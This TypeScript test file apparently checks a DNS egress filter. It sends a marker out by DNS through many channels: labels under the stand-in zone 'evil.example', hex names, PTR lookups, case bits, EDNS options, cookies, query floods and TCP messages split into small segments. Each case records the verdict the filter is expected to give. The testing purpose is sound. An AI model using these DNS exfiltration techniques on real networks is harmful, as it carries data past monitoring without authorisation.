/** Rows D1 to D3: data in questions, whatever their type, transport and options. */
import type { Attack } from "../case.ts";
import type { Job } from "../job.ts";
import { unasked } from "../refusals.ts";

const kind = "attack";

/** A question asked with dig of the given resolver. */
function asked(
  row: string,
  variant: string,
  args: (marker: string, job: Job) => string[],
  refusal: Attack["refusal"],
  more: Partial<Attack> = {},
): Attack {
  return {
    kind,
    row,
    variant,
    run: (job, marker) => job.dig(`@${job.resolver}`, ...args(marker, job)),
    refusal,
    ...more,
  };
}

const marked = (qtype: string) => (_: Job, marker: string) =>
  unasked("default", { name: `${marker.toLowerCase()}.evil.example` }, { qtype });
const hex = (text: string): string => Buffer.from(text).toString("hex");
/** What is asked upstream in our own words is recorded as allowed, in every mode. */
const allowed = (name: string, qtype: string) => ({
  kind: "dns",
  verdict: "allow",
  rule: { name: "web" },
  destination: { name },
  dns: { qtype },
});

export const questionCases: Attack[] = [
  ...["A", "AAAA", "TXT", "NULL", "MX", "CNAME", "SRV", "HTTPS", "NS", "SOA", "CAA", "TYPE65399"].map((qtype) =>
    asked("D1", `data in the labels of a denied zone, as ${qtype}`, (m) => [`${m}.evil.example`, qtype], marked(qtype)),
  ),
  asked("D1", "the same as ANY", (m) => [`${m}.evil.example`, "ANY"], {
    kind: "dns",
    destination: { name: /\.evil\.example$/ },
    dns: { qtype: "ANY" },
  }),
  asked(
    "D1",
    "spread over labels",
    (m) => [`${m.slice(0, 8)}.${m.slice(8)}.x.evil.example`, "TXT"],
    unasked("default", { name: /\.x\.evil\.example$/ }, { qtype: "TXT" }),
  ),
  asked(
    "D1",
    "in hex, under a top-level domain of its own",
    (m) => [`${hex(m)}.invalid`, "A"],
    (_, m) => unasked("default", { name: `${hex(m)}.invalid` }, { qtype: "A" }),
  ),
  asked(
    "D1",
    "below an allowed name",
    (m) => [`${m}.allowed.example`, "A"],
    (_, m) => unasked("default", { name: `${m.toLowerCase()}.allowed.example` }),
  ),
  asked(
    "D1",
    "an allowed name inside a denied one",
    (m) => [`allowed.example.${m}.evil.example`, "A"],
    unasked("default", { name: /^allowed\.example\./ }),
  ),
  asked(
    "D2",
    "a reverse lookup of a name made up for it",
    (m) => [`${m}.in-addr.arpa`, "PTR"],
    unasked("query_type", { name: /\.in-addr\.arpa$/ }, { qtype: "PTR" }),
  ),
  asked(
    "D2",
    "a reverse lookup below an address of the lab",
    (m) => [`${m}.10.113.0.203.in-addr.arpa`, "PTR"],
    unasked("query_type", { name: /\.in-addr\.arpa$/ }, { qtype: "PTR" }),
  ),
  {
    kind,
    row: "D2",
    variant: "more names under an allowed wildcard than a budget allows",
    run: async (job, marker) => {
      await job.node(names, [job.resolver, "520", `${marker}.hoard.example`], { timeoutMs: 20_000 });
    },
    refusal: (_, marker) => ({
      kind: "dns",
      reason: "query_budget",
      destination: { name: `${marker.toLowerCase()}.hoard.example` },
    }),
    // Monitor asks on: the budget is one of what is enforced.
    foretold: { kind: "dns", verdict: "allow", rule: { name: "web" }, destination: { name: /\.hoard\.example$/ } },
    families: [4],
  },
  {
    ...asked("D2", "bits in the case of an allowed name", () => [], allowed("case.wild.example", "A")),
    run: (job) => job.dig(`@${job.resolver}`, "cAsE.wIlD.eXaMpLe", "A"),
    arrived: async (job) => {
      const seen = (await job.lab.internet.dns.queries()).filter(({ name }) => name === "cAsE.wIlD.eXaMpLe");
      await job.lab.internet.dns.set("case.wild.example", { records: [{ type: "A", data: "203.0.113.60", ttl: 0 }] });
      return { bytes: seen.length, where: "the name server, in the client's case" };
    },
    families: [4],
  },
  asked("D3", "over TCP", (m) => ["+tcp", `${m}.evil.example`, "A"], marked("A")),
  asked(
    "D3",
    "in an EDNS option of an allowed question",
    (m) => [`+ednsopt=65001:${hex(m)}`, `o${m.slice(7)}.wild.example`, "A"],
    (_, m) => allowed(`o${m.slice(7).toLowerCase()}.wild.example`, "A"),
  ),
  asked(
    "D3",
    "in a cookie of an allowed question",
    (m) => [`+cookie=${hex(m.slice(0, 8))}${hex(m)}`, `c${m.slice(7)}.wild.example`, "A"],
    (_, m) => allowed(`c${m.slice(7).toLowerCase()}.wild.example`, "A"),
  ),
  {
    kind,
    row: "D3",
    variant: "several messages on one TCP connection, in segments of seven bytes",
    run: async (job, marker) => {
      await job.node(stream, [job.resolver, `${marker}.evil.example`]);
    },
    refusal: marked("A"),
  },
];

/** Asks for n names under the wildcard, twenty at a time, and last for the one that counts. */
const names = `
const [, server, count, last] = process.argv;
const { Resolver } = require("dns").promises;
const resolver = new Resolver({ tries: 1, timeout: 3000 });
resolver.setServers([server.includes(":") ? "[" + server + "]" : server]);
let next = 0;
const lane = async () => { while (next < count) await resolver.resolve4("n" + next++ + "x" + process.pid + ".hoard.example").catch(() => {}); };
Promise.all(Array.from({ length: 20 }, lane)).then(() => resolver.resolve4(last)).catch(() => {}).then(() => process.exit());`;

const stream = `
const [, server, last] = process.argv;
const message = (name, id) => {
  const labels = name.split(".").map((label) => Buffer.concat([Buffer.of(label.length), Buffer.from(label)]));
  const body = Buffer.concat([Buffer.of(0, id, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0), ...labels, Buffer.of(0, 0, 1, 0, 1)]);
  return Buffer.concat([Buffer.of(body.length >> 8, body.length & 255), body]);
};
const bytes = Buffer.concat([message("allowed.example", 1), message("x.evil.example", 2), message(last, 3)]);
const socket = require("net").connect({ host: server, port: 53, noDelay: true });
let at = 0;
const step = () => { if (at < bytes.length) socket.write(bytes.subarray(at, (at += 7)), () => setTimeout(step, 2)); };
socket.on("connect", step).on("error", () => process.exit()).on("close", () => process.exit());
setTimeout(() => process.exit(), 2000);`;
